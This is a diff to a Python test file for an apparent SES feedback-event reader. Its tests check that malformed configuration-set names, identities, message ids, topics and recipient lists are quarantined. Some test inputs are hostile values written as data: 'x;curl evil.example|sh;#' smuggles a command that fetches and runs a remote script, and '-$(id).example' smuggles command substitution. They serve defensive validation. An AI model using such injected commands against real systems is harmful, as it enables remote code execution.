@@ -175,8 +175,7 @@ def test_what_is_observed_can_be_stored(body: str) -> None:
         {"sourceArn": None, "source": "news@"},
         {"sourceArn": None, "source": None},
         {"destination": ["x" * 600]},
-        {"destination": ["recipient-1@gmail.com", ""]},
-        {"destination": ["recipient-1@gmail.com"] * 1_001},
+        {"destination": ["", "<>"]},
     ],
 )
 def test_an_event_that_could_never_be_stored_is_incomplete(fields: dict[str, Any]) -> None:
@@ -223,8 +222,14 @@ def test_an_arn_for_all_regions_leaves_the_region_to_the_topic() -> None:
     assert origin_in(read(event, topic_region="eu-west-1")).account_hour.region == "eu-west-1"
 
 
-def test_the_region_of_an_arn_goes_before_the_topics() -> None:
-    assert origin_in(read(published("Send"), topic_region="eu-west-1")).account_hour.region == "us-east-1"
+@pytest.mark.parametrize("dialect", [published, notified])
+def test_an_event_of_another_region_than_its_topics_is_not_believed(dialect: Any) -> None:
+    """SES publishes within its Region; else one topic could speak for an account's mail in all Regions."""
+    reading = read(dialect("Delivery", recipients=["recipient-1@gmail.com"]), OWNER, topic_region="eu-west-1")
+
+    assert isinstance(reading, Quarantined)
+    assert reading.reason is Reason.CONTRADICTS_TOPIC
+    assert "mail of us-east-1 was reported to a topic in eu-west-1" in reading.explanation
 
 
 @pytest.mark.parametrize("source", ["", None, "news@", "news@" + "x" * 400, "@", "<>"])
@@ -270,11 +275,9 @@ def test_both_feeds_count_a_fact_in_the_same_hour_and_dispatch() -> None:
 
 
 @pytest.mark.parametrize(
-    ("tags", "kept"), [([], None), ([""], None), (["x" * 70], "x" * 64), (["a", "b"], "a")]
+    ("tags", "kept"), [([], None), ([""], None), (["x" * 64], "x" * 64), (["a-B_9", "b"], "a-B_9")]
 )
-def test_a_configuration_sets_name_is_kept_up_to_the_length_that_ses_allows(
-    tags: list[str], kept: str | None
-) -> None:
+def test_a_configuration_set_is_the_first_that_the_tags_name(tags: list[str], kept: str | None) -> None:
     event = published("Send")
     event["mail"]["tags"] = {"ses:configuration-set": tags}
     reading = read(event)
@@ -342,3 +345,131 @@ def test_event_type_wins_where_an_event_claims_both_dialects() -> None:
 
     assert isinstance(reading, Observed)
     assert (reading.event_type, reading.dialect) == ("Send", "publishing")
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "x" * 65,
+        "x;curl evil.example|sh;#",
+        "a b",
+        "a\nb",
+        "a\x1b[31m",
+        "[/x]",
+        "news.letter",
+        "é",
+        "(none)",
+        "=",
+    ],
+)
+def test_a_configuration_set_as_ses_lets_nobody_call_one_is_quarantined(name: str) -> None:
+    reading = read(published("Send", name))
+
+    assert isinstance(reading, Quarantined)
+    assert reading.reason is Reason.INCOMPLETE_EVENT
+    assert "mail.tags names a configuration set" in reading.explanation
+    assert name not in reading.explanation or len(name) == 1
+
+
+@pytest.mark.parametrize(
+    "identity",
+    [
+        *(
+            "a b.example",
+            "a\n\nb.example",
+            "a\x1b[31m.example",
+            "[/x]",
+            "a..b",
+            ".a",
+            "-$(id).example",
+            "a@b@c",
+        ),
+        *(
+            "<b>@example.com",
+            "a@b c.example",
+            "a\n@example.com",
+            "a@",
+            "@example.com",
+            '"a b"@example.com',
+            "é@b.c",
+        ),
+        *("x" * 321, "a/b.example", "x" * 300 + "@example.com.and.more"),
+    ],
+)
+def test_an_identity_that_ses_would_not_verify_is_quarantined(identity: str) -> None:
+    arn = ARN.format(owner=OWNER, identity=identity)
+
+    assert reason_of(read(published("Send", "newsletter", {"sourceArn": arn}))) is Reason.INCOMPLETE_EVENT
+
+
+@pytest.mark.parametrize("source", ["a@[192.0.2.1]", "a@\x1b[31m", "a@b..c", "a@.", "no address"])
+def test_a_from_domain_that_is_none_is_no_identity_and_no_from_domain(source: str) -> None:
+    without_arn = {"source": source, "sourceArn": None}
+
+    assert origin_in(read(published("Send", None, {"source": source}))).from_domain == ""
+    assert reason_of(read(published("Send", None, without_arn))) is Reason.INCOMPLETE_EVENT
+
+
+@pytest.mark.parametrize("message_id", ["a b", "a\nb", "a\x1b[31mb", "é", "", "x" * 257])
+def test_a_message_id_as_ses_writes_none_is_quarantined(message_id: str) -> None:
+    assert reason_of(read(published("Send", None, {"messageId": message_id}))) is Reason.INCOMPLETE_EVENT
+
+
+@pytest.mark.parametrize("name", ["a b", "a\nb", "a\x1b[31m", "", "é", "x" * 257])
+def test_a_topic_as_sns_has_none_is_nobodys(name: str) -> None:
+    arn = f"arn:aws:sns:us-east-1:{DELEGATE}:{name}"
+    body = envelope(json.dumps(published("Send")), TopicArn=arn)
+
+    assert reason_of(read_wire(body, REGISTRY)) is Reason.FOREIGN_TOPIC
+
+
+def test_an_event_of_more_recipients_than_ses_mails_is_quarantined() -> None:
+    most = [f"recipient-{number}@gmail.com" for number in range(50)]
+    named = [{"emailAddress": each} for each in most]
+    block: dict[str, Any] = {"bounceType": "Permanent", "timestamp": "2026-11-20T14:06:00Z"}
+
+    for event, over in (
+        (
+            published("Send", None, {"destination": most}),
+            published("Send", None, {"destination": [*most, "a@b.c"]}),
+        ),
+        (
+            published("Bounce", None, {"destination": most}, bouncedRecipients=named, **block),
+            published("Bounce", None, {"destination": most}, bouncedRecipients=[*named, {}], **block),
+        ),
+    ):
+        reading = read(event)
+        assert isinstance(reading, Observed)
+        assert len(reading.observations) == 50
+        assert reason_of(read(over)) is Reason.INCOMPLETE_EVENT
+
+
+DEEP_ADDRESS = "(" * 600 + ")" * 600 + " <a b@c.example>"
+
+
+def test_an_address_that_nests_deep_is_a_recipient_as_any_other() -> None:
+    block: dict[str, Any] = {
+        "timestamp": "2026-11-20T14:06:00Z",
+        "bouncedRecipients": [{"emailAddress": DEEP_ADDRESS}],
+    }
+    reading = read(published("Bounce", None, {"destination": ["b@c.example", "other@c.example"]}, **block))
+
+    assert isinstance(reading, Observed)
+    assert [each.recipient for each in reading.observations] == ["b@c.example"]
+
+
+@pytest.mark.parametrize("error", [RecursionError, KeyError, UnicodeError, ZeroDivisionError, MemoryError])
+def test_a_message_that_our_own_code_fails_on_is_quarantined_as_a_defect_without_its_text(
+    error: type[Exception], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def fail(*_: object) -> None:
+        raise error(MISPLACED)
+
+    monkeypatch.setattr("ses_reputation.feedback.reading.observe", fail)
+    reading = read(published("Send"))
+
+    assert isinstance(reading, Quarantined)
+    assert reading.reason is Reason.DEFECT
+    assert "defect" in reading.explanation
+    assert error.__name__ in reading.explanation
+    assert MISPLACED not in reading.explanation
